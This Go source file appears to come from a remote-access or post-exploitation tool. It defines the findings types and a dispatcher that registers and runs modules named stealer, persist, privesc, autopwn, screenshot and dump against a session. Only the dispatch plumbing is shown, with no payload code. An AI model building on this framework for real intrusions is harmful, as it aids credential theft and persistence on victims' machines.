package main

import (
	"fmt"
	"sort"

	"github.com/sirupsen/logrus"
)

// Entry is one labeled finding produced by a module step. Tag carries a
// classification marker such as EXPLOIT or VULNERABLE.
type Entry struct {
	Label string
	Value string
	Tag   string
}

// Section groups the entries of one module step.
type Section struct {
	Title   string
	Entries []Entry
}

// Findings is the structured result of one module run. A failed step shows
// up as an empty section or a missing entry, never as an aborted run.
type Findings struct {
	Module   string
	Sections []Section
}

// Module is a named, fixed script of channel exchanges plus the parsing
// logic that turns replies into findings.
type Module interface {
	Name() string
	Description() string
	Run(sess *Session) (*Findings, error)
}

// Dispatcher selects modules by name and records each dispatch.
type Dispatcher struct {
	modules map[string]Module
	db      *Database
}

func NewDispatcher(db *Database, xfer *TransferService) *Dispatcher {
	d := &Dispatcher{modules: make(map[string]Module), db: db}

	stealer := &stealerModule{xfer: xfer}
	for _, m := range []Module{
		&sysinfoModule{},
		&persistModule{},
		&privescModule{},
		&autopwnModule{},
		&networkModule{},
		&screenshotModule{},
		stealer,
		&downloadModule{xfer: xfer},
		&dumpModule{stealer: stealer},
	} {
		d.modules[m.Name()] = m
	}
	return d
}

// Run dispatches name against sess. An unrecognized name is an error and
// performs no channel I/O.
func (d *Dispatcher) Run(name string, sess *Session) (*Findings, error) {
	mod, ok := d.modules[name]
	if !ok {
		return nil, fmt.Errorf("unknown module: %s", name)
	}
	if err := d.db.SaveCommand(sess.ID, "run "+name); err != nil {
		logrus.Errorf("Error recording command: %v", err)
	}
	return mod.Run(sess)
}

// Modules returns the registered modules ordered by name.
func (d *Dispatcher) Modules() []Module {
	mods := make([]Module, 0, len(d.modules))
	for _, m := range d.modules {
		mods = append(mods, m)
	}
	sort.Slice(mods, func(i, j int) bool { return mods[i].Name() < mods[j].Name() })
	return mods
}
